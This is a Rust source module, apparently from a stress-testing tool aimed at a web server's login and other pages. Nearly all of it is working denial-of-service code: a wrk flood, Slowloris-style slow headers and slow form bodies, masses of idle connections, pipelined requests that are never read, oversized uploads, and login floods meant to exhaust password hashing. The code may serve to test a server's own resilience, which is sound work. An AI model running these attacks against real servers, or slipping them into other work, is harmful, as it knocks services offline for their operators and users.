//! Attacks on the web pages.

use super::raid::Raid;
use smol::Timer;
use smol::io::{AsyncReadExt, AsyncWriteExt};
use std::process::Command;
use std::time::Duration;

/// Number of connections; more than the web role accepts.
const MANY: usize = 1_500;
const BYTE_EACH: Duration = Duration::from_millis(500);
const FORM: &str = "Content-Type: application/x-www-form-urlencoded\r\nSec-Fetch-Site: same-origin\r\n";

/// Requests as many pages per second as possible.
pub fn wrk(raid: &Raid, connections: usize) {
    let seconds = format!("{}s", raid.time.as_secs());
    let url = format!("http://{}/login", raid.target);
    let output =
        Command::new("wrk").args(["-t", "2", "-c", &connections.to_string(), "-d", &seconds, &url]).output();
    let Ok(output) = output else { return raid.say("wrk is not installed".into()) };
    let text = String::from_utf8_lossy(&output.stdout).into_owned();
    let field = |name: &str| {
        text.lines().find_map(|line| line.trim().strip_prefix(name)).unwrap_or("0").trim().to_string()
    };
    let errors = [field("Socket errors:"), field("Non-2xx or 3xx responses:")];
    raid.say(format!(
        "{} pages a second; errors {}; refused {}",
        field("Requests/sec:"),
        errors[0],
        errors[1]
    ));
}

/// Sends a request head that never ends, one byte at a time.
pub fn slow_heads(raid: &Raid) {
    slowly(raid, b"GET / HTTP/1.1\r\nHost: x\r\nX-Slow: ");
}

/// Sends a form that never completes.
pub fn slow_bodies(raid: &Raid) {
    let head =
        format!("POST /login HTTP/1.1\r\nHost: {}\r\n{FORM}Content-Length: 60000\r\n\r\n", raid.target);
    slowly(raid, head.as_bytes());
}

fn slowly(raid: &Raid, begin: &[u8]) {
    raid.each(MANY, async |number| {
        while raid.goes_on() {
            let Some(mut held) = raid.connect(number).await else { continue };
            let mut sent = held.stream.write_all(begin).await;
            while sent.is_ok() {
                Timer::after(BYTE_EACH).await;
                sent = held.stream.write_all(b"a").await;
            }
            raid.count();
        }
    });
}

/// Opens connections and sends nothing.
pub fn idle(raid: &Raid) {
    raid.each(MANY, async |number| {
        while raid.goes_on() {
            let Some(mut held) = raid.connect(number).await else { continue };
            let _ = held.stream.read(&mut [0; 512]).await;
            raid.count();
        }
    });
}

/// Requests pages, one after the other, and reads none.
pub fn never_reading(raid: &Raid) {
    let ask = format!("GET /about HTTP/1.1\r\nHost: {}\r\n\r\n", raid.target).repeat(64);
    raid.each(MANY, async |number| {
        while raid.goes_on() {
            let Some(mut held) = raid.connect(number).await else { continue };
            while held.stream.write_all(ask.as_bytes()).await.is_ok() {}
            raid.count();
        }
    });
}

pub fn large_bodies(raid: &Raid) {
    let head =
        format!("POST /login HTTP/1.1\r\nHost: {}\r\n{FORM}Content-Length: 10000000\r\n\r\n", raid.target);
    let piece = vec![b'a'; 100_000];
    raid.each(64, async |number| {
        while raid.goes_on() {
            let Some(mut held) = raid.connect(number).await else { continue };
            let mut sent = held.stream.write_all(head.as_bytes()).await;
            for _ in 0..100 {
                if sent.is_ok() {
                    sent = held.stream.write_all(&piece).await;
                }
            }
            let _ = held.stream.read(&mut [0; 4_096]).await;
            raid.count();
        }
    });
}

/// Sends logins, each of which costs a server a password hash.
pub fn log_ins(raid: &Raid) {
    raid.each(64, async |number| {
        while raid.goes_on() {
            let Some(mut held) = raid.connect(number).await else { continue };
            let form = format!("username=nobody-{number}&password=frogfrog");
            let ask = format!(
                "POST /login HTTP/1.1\r\nHost: {}\r\n{FORM}Connection: close\r\nContent-Length: {}\r\n\r\n{form}",
                raid.target,
                form.len()
            );
            if held.stream.write_all(ask.as_bytes()).await.is_ok() {
                let mut answer = Vec::new();
                let _ = (&mut held.stream).take(100_000).read_to_end(&mut answer).await;
            }
            raid.count();
        }
    });
}
